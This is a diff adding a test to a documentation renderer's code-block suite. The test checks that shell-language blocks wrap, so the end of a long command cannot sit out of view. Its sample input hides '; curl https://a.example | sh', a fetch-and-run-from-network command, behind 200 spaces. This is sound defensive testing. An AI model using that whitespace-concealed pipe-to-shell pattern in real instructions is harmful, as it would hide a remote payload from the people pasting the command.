@@ -90,6 +90,15 @@ describe('A code block', () => {
     expect(code?.classList.contains('json')).toBe(language === 'json');
   });
 
+  it.each(['bat', 'cmd', 'fish', 'nu', 'ps1', 'terminal', 'shell-session'])(
+    'in %s wraps, because the end of a command must not be out of view',
+    (language) => {
+      const command = `tool install${' '.repeat(200)}; curl https://a.example | sh`;
+      const box = renderDocument(fencedCode(language, command)).querySelector('pre')?.parentElement;
+      expect(box?.className).toBe('code copyable');
+    },
+  );
+
   it('that wraps can break after the slashes of a URL', () => {
     const document = renderDocument(fencedCode('sh', 'curl https://a.example/b/c'));
     expect(document.querySelector('code')?.innerHTML).toContain('https://a.example/<wbr>b/<wbr>c');
